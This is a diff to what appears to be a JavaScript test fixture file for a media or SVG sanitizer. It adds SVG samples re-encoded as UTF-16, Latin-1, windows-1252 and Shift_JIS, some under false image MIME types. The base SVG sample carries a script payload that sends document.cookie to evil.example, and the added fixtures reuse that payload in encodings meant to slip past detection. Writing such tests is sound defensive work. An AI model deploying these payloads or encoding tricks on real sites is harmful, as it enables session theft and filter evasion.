@@ -6,6 +6,15 @@ const PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwA
 const SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)"><script>fetch("https://evil.example/?c="+document.cookie)</script><rect width="10" height="10" fill="red"/></svg>';
 const PROLOG_SVG = '\ufeff<?xml version="1.0" encoding="UTF-8"?>\n<!-- drawn by hand -->\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg viewBox="0 0 1 1"><title>café</title></svg>';
 const b64 = (text) => Buffer.from(text, 'utf8').toString('base64');
+/** Text as UTF-16 bytes with a byte order mark, in base64. */
+const utf16 = (text, order) => {
+  const le = Buffer.from(`\ufeff${text}`, 'utf16le');
+  return (order === 'be' ? Buffer.from(le).swap16() : le).toString('base64');
+};
+/** Text of code points below U+0100 as one byte each (ISO-8859-1), plus raw windows-1252 bytes where `\x80`–`\x9f` stand. */
+const bytes8 = (text) => Buffer.from(text, 'latin1').toString('base64');
+/** An SVG in another encoding, with an XML declaration naming it and non-ASCII text (café, naïve). */
+const DECLARED = (encoding) => `<?xml version="1.0" encoding="${encoding}"?>\n<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><title>caf\u00e9 na\u00efve</title>${SVG.slice(SVG.indexOf('<script>'))}`;
 const image = (data, mimeType) => ({ type: 'image', data, mimeType });
 const MEDIA = {
   svg: image(b64(SVG), 'image/svg+xml'),
@@ -28,6 +37,22 @@ const MEDIA = {
   svg_long_prolog: image(b64(`<?xml version="1.0"?>\n<!--\n${'  Licensed under the Apache License, Version 2.0 (the "License");\n'.repeat(80)}-->\n${SVG}`), 'image/svg+xml'),
   svg_internal_subset: image(b64(`<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [\n<!ENTITY ns_svg "http://www.w3.org/2000/svg">\n<!ENTITY ns_flows "http://ns.adobe.com/Flows/1.0/">\n]>${SVG}`), 'image/svg+xml'),
   svg_doctype_flood: image(b64(`${'<!DOCTYPE>'.repeat(400_000)}<html></html>`), 'image/svg+xml'),
+  svg_utf16le: image(utf16(PROLOG_SVG.slice(1).replace('UTF-8', 'UTF-16')), 'image/svg+xml'),
+  svg_utf16be: image(utf16(SVG, 'be'), 'image/svg+xml'),
+  svg_utf16le_resource: { type: 'resource', resource: { uri: 'file:///icons/wide.svg', mimeType: 'image/svg+xml', blob: utf16(SVG) } },
+  svg_latin1: image(bytes8(DECLARED('ISO-8859-1')), 'image/svg+xml'),
+  // 0x93/0x94 are curly quotes and 0x80 the euro sign in windows-1252 (C1 controls in ISO-8859-1).
+  svg_cp1252: image(bytes8(DECLARED('windows-1252').replace('<title>', '<title>\x93\x80 5\x94 ')), 'image/svg+xml'),
+  svg_cp1252_single_quotes: image(bytes8(DECLARED('windows-1252').replace(`encoding="windows-1252"`, `encoding='Windows-1252'`).replace('<title>', '<title>\x80')), 'image/svg+xml'),
+  // 日本 in Shift_JIS.
+  svg_shift_jis: image(bytes8(DECLARED('Shift_JIS').replace('caf\u00e9 na\u00efve', '\x93\xfa\x96\x7b')), 'image/svg+xml'),
+  svg_latin1_undeclared: image(bytes8(DECLARED('ISO-8859-1').replace(/^<\?xml[^>]*>\n/, '')), 'image/svg+xml'),
+  svg_latin1_declared_utf8: image(bytes8(DECLARED('UTF-8')), 'image/svg+xml'),
+  svg_unknown_encoding: image(bytes8(DECLARED('x-made-up-8')), 'image/svg+xml'),
+  svg_utf16_odd_bytes: image(Buffer.concat([Buffer.from(utf16(SVG), 'base64'), Buffer.from([0x3c])]).toString('base64'), 'image/svg+xml'),
+  svg_utf16_html: image(utf16('<html><body><script>alert(1)</script></body></html>'), 'image/svg+xml'),
+  svg_utf16_claiming_bmp: image(utf16(SVG), 'image/bmp'),
+  svg_latin1_claiming_avif: image(bytes8(DECLARED('ISO-8859-1')), 'image/avif'),
   svg_long_prolog_claiming_avif: image(b64(`<?xml version="1.0"?>\n<!--\n${'  Licensed under the Apache License, Version 2.0 (the "License");\n'.repeat(80)}-->\n${SVG}`), 'image/avif'),
 };
 
